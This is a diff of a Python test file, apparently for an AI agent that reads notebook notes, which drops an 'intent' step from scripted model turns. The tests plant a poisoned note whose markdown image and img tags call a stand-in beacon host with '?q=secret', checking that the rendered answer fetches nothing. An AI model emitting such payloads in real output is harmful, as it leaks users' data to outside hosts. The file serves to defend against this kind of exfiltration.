@@ -7,7 +7,7 @@ from markdown_it import MarkdownIt
 from support.browser import chromium
 from support.graphs import run_once, session
 from support.notebook import Notebook
-from support.prompts import call, intent, review
+from support.prompts import call, review
 from support.scripted_deciders import call as selected
 from support.scripted_deciders import scripted
 from support.scripted_openai import ScriptedOpenAI
@@ -18,7 +18,6 @@ from deciders.protocols import Deciders
 BEACON = "http://127.0.0.1:9/beacon.png"
 POISON = f'{{"a": 1,\n "b": 2}}\n```\n![x]({BEACON}?q=secret) <img src="{BEACON}">\n[y]: {BEACON}'
 READ_A = selected("notebook.read_note", name="a")
-YES, NO = intent(needs_tool=True), intent(needs_tool=False)
 GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 
 
@@ -48,7 +47,7 @@ async def test_a_models_answer_is_inert_at_once_and_in_pieces(by_model: Deciders
         "It says ![x] (http[:]//127.0.0.1:9/beacon.png?q=secret), see https[:]//evil.example, "
         "https://docs.example/a and ```x```."
     )
-    script = (YES, call("notebook.read_note", name="a"), review(0.9), NO, answer)
+    script = (call("notebook.read_note", name="a"), review(0.9), answer)
     scripted_openai.script(*script)
     async with session(by_model, Notebook(a=POISON)) as talk:
         turn = await stream(talk, "Read note a, as https://docs.example/a says")
@@ -60,7 +59,7 @@ async def test_a_models_answer_is_inert_at_once_and_in_pieces(by_model: Deciders
 async def test_no_request_leaves_a_browser_that_renders_it(
     by_model: Deciders, scripted_openai: ScriptedOpenAI, tmp_path: Path
 ):
-    scripted_openai.script(YES, call("notebook.read_note", name="a"), review(0.9), NO, POISON)
+    scripted_openai.script(call("notebook.read_note", name="a"), review(0.9), POISON)
     notebook = Notebook(a=POISON)
     packets = [await run_once(one, "Read note a", notebook) for one in (by_model, scripted(READ_A))]
     (tmp_path / "raw.html").write_text(GFM.render(f"![x]({BEACON}) <img src='{BEACON}'>"))
